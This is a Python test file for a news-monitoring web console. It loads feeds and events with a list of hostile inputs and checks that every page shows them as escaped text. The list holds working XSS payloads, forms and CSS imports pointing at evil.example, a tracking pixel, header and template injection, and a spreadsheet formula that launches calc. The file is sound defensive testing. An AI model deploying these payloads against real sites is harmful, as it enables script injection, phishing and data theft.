"""What publishers write is shown as text on every page of the console that shows it, and never runs or loads."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest
from reading import at_desk, open_service, rows
from row_factories import WHO, add_feed, draft, match, now

from watcher.model import Fact, FactKind, Level, Snippet
from watcher.runtime import Runtime
from watcher.store import events, items, stories
from watcher.store.schema import events as event_rows
from watcher.web.console import PAGES

HOSTILE = (
    "Hi\r\nBcc: v@x",
    "one\u2028two\u0085three\u000bfour",
    "lone \ud800 surrogate",
    "nul \x00 byte",
    "bidi \u202egnp.exe",
    "=?utf-8?b?QmNj?=",
    "x" * 2000,
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><a href="javascript:alert(1)">x</a>',
    "JaVa&#9;script:alert(1)",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<style>@import url(//evil.example/x.css);body{background:url(//evil.example/)}</style>",
    '<form action="//evil.example"><input name=password></form><meta http-equiv=refresh content="0;//evil.example">',
    '<base href="//evil.example/">',
    "</td></tr></table></section></main></body></html><h1>broken out</h1>",
    '<img src="https://evil.example/pixel.gif" width=1 height=1>',
    "<!--[if mso]><p>office</p><![endif]-->",
    "<!channel> &lt;!here&gt; <http://evil.example|bank>",
    "``` *_~ `",
    "@everyone {{ 7 * 7 }} {% raw %}",
    '\n{"level":"info"}\x1b[2J',
    "=cmd|' /C calc'!A0",
    "\U0001f469\u200d\U0001f52c" * 60,
    "\u05d0" * 400,
)
"""Inputs 107 to 128 of the list of hostile ones, with those that would break out of a page."""
LINKS = (
    "javascript:alert(1)",
    "JaVa\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'https://news.example/"onmouseover="alert(1)',
    "//evil.example/",
)
OURS = {"script": {"/static/htmx.js", "/static/htmx-sse.js"}, "link": {"/static/console.css"}}
"""What a page may load."""


class Found(HTMLParser):
    """The tags of a page with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attributes}))


def trouble(page: str) -> list[str]:
    """What a page holds that only a publisher can have put there."""
    found = []
    for tag, attributes in Found(page).tags:
        source = attributes.get("src", attributes.get("href", ""))
        if tag in ("img", "iframe", "base", "style", "math", "object", "embed"):
            found.append(f"<{tag}>")
        if tag == "script" and source not in OURS["script"]:
            found.append(f"script {source!r}")
        if tag == "link" and source not in OURS["link"] and not source.startswith("data:image/svg"):
            found.append(f"link {source!r}")
        if tag == "meta" and "http-equiv" in attributes:
            found.append("meta refresh")
        if tag == "form" and not attributes.get("action", "/").startswith("/"):
            found.append(f"form to {attributes['action']!r}")
        if tag == "a" and not re.match(r"/(?!/)|#|\?|https?://[\w.-]+(/|$)|$", attributes.get("href", "")):
            found.append(f"link to {attributes['href']!r}")
        found += [f"{tag} {name}" for name in attributes if name.startswith(("on", "hx-on")) or name == "style"]
    signs = [sign for sign in "\u202e\u2066\x00\x1b\x07\x0b" if sign in page]
    return found + [f"sign {sign!r}" for sign in signs] + (["49"] if re.search(r"everyone 49", page) else [])


def add_hostile(rt: Runtime) -> None:
    """Events whose every word is hostile: titles, facts, evidence, rule, feed, links."""
    for number, text in enumerate(HOSTILE):
        clean = text.encode("utf-8", "replace").decode().replace("\x00", "")
        feed_id = add_feed(rt.database, f"https://hostile.example/{number}", title=clean)
        link = LINKS[number % len(LINKS)]
        with rt.database.write() as conn:
            bad = draft(f"bad-{number}", title=clean, link=link, text=clean)
            (item_id,) = items.insert_new(conn, feed_id, [bad], history=lambda _: False, now=now())
        with rt.database.write() as conn:
            (item,) = items.claim(conn, [item_id], owner=WHO, lease_s=60, now=now())
            facts = {"party": Fact(name="party", kind=FactKind.PARTY, value=clean)}
            told = match("funding", rule_title=clean, level=Level.HIGH, facts=facts)
            story = stories.ensure(conn, key=f"hostile-{number}", title=clean, now=now())
            snippets = [Snippet(text=clean, marks=((0, 2),))]
            made = events.create(conn, story_id=story, match=told, item=item, snippets=snippets, now=now())
            assert made is not None
            events.add_source(conn, made, item.id, now=now())


@pytest.fixture
def rt(database_url: str, tmp_path: Path) -> Iterator[Runtime]:
    opened = open_service(database_url, tmp_path)
    add_hostile(opened)
    yield opened
    opened.close()


@pytest.mark.parametrize("database_url", ["sqlite", "postgresql"], indirect=True)
def test_every_page_shows_hostile_words_as_text(rt: Runtime) -> None:
    fixed = [page.path for page in PAGES if "GET" in page.methods and "{" not in page.path]
    shown = [f"/events/{row['id']}" for row in rows(rt, event_rows)]
    assert len(shown) == len(HOSTILE)
    feeds = [f"/feeds/{number}" for number in (1, 8, 17)]
    wrong, seen = {}, 0
    with at_desk(rt) as client:
        for path in ["/", *fixed, *shown, *feeds, "/events?text=%3Cscript%3E", "/events?rule=%22%3E%3Cimg+src%3Dx%3E"]:
            with client.stream("GET", path, timeout=60) as answer:
                if "html" not in answer.headers.get("content-type", ""):
                    continue
                answer.read()
            assert answer.status_code in (200, 303, 404, 422), (path, answer.status_code)
            seen += "&lt;script&gt;alert(1)&lt;/script&gt;" in answer.text
            if trouble(answer.text):
                wrong[path] = trouble(answer.text)[:5]
    assert wrong == {}
    assert seen >= 2  # the list of events and the page of that one do show it


def test_the_check_finds_what_a_page_must_not_hold() -> None:
    told = [trouble(text) for text in HOSTILE]
    assert sum(bool(one) for one in told) >= 12
    assert trouble('<a href="javascript:x">') == ["link to 'javascript:x'"]
    assert trouble('<a href="//evil.example">') == ["link to '//evil.example'"]
    assert trouble('<a href="/events?x=1"><a href="https://news.example/a"><a href="?before=3"><p class="x">') == []
